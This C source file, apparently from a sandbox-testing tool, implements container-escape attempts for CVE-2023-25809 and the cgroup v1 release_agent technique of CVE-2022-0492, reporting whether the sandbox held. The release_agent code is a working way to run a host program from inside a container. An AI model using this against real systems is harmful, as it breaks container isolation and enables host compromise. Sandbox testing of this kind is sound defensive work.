/* SPDX-License-Identifier: MIT */
/*
 * CVE-2023-25809: change the host's control groups through a writable /sys/fs/cgroup.
 * CVE-2022-0492: have the host run a program when a group of a v1 hierarchy becomes empty.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* cgroup NAME: make a group of that name, in any hierarchy that there is */
int attack_cgroup(char **argv)
{
    static const char *const places[] = {"/sys/fs/cgroup", "/sys/fs/cgroup/pids",
                                         "/sys/fs/cgroup/freezer", "/sys/fs/cgroup/unified"};
    char path[256];
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        snprintf(path, sizeof path, "%s/%s", places[i], argv[0]);
        if (mkdir(path, 0755) == 0) {
            rmdir(path);
            return ATTACK_OUT;
        }
    }
    return attack_held("make a group");
}

static int write_to(const char *directory, const char *file, const char *text)
{
    char path[512];
    snprintf(path, sizeof path, "%s/%s", directory, file);
    int fd = open(path, O_WRONLY);
    ssize_t n = fd < 0 ? -1 : write(fd, text, strlen(text));
    if (fd >= 0)
        close(fd);
    return n < 0 ? -1 : 0;
}

/* A process that joins a group, and ends. */
static int pass_through(const char *group)
{
    pid_t pid = fork();
    if (pid == 0)
        _exit(write_to(group, "cgroup.procs", "0") < 0);
    int status = 1;
    waitpid(pid, &status, 0);
    return status == 0 ? 0 : -1;
}

static int have_it_run(const char *mark)
{
    static const char group[] = "/tmp/hierarchy/group";
    if (mkdir(group, 0755) < 0)
        return attack_held("make a group");
    int rc = write_to(group, "notify_on_release", "1");
    if (rc == 0)
        rc = pass_through(group);
    for (int tries = 0; rc == 0 && tries < 3000 && access(mark, F_OK) < 0; tries++)
        nanosleep(&(struct timespec){.tv_nsec = 10000000}, NULL);
    rc = rc == 0 && access(mark, F_OK) == 0 ? ATTACK_OUT : attack_held("have it run");
    /* It is busy until the process is gone for good. */
    for (int tries = 0; rmdir(group) < 0 && tries < 1000; tries++)
        nanosleep(&(struct timespec){.tv_nsec = 10000000}, NULL);
    return rc;
}

/*
 * release-agent PROGRAM MARK: the program's path on the host, and the file that it makes, as it is
 * seen here. The hierarchy is one of its own, which nobody else uses.
 */
int attack_release_agent(char **argv)
{
    static const char place[] = "/tmp/hierarchy";
    if (mkdir(place, 0755) < 0 && errno != EEXIST)
        return attack_not_tried("mkdir");
    if (mount("cgroup", place, "cgroup", 0, "none,name=libscratch-escape") < 0)
        return attack_held("mount a hierarchy");
    int rc = write_to(place, "release_agent", argv[0]) < 0 ? attack_held("set the release agent")
                                                           : have_it_run(argv[1]);
    umount(place);
    return rc;
}
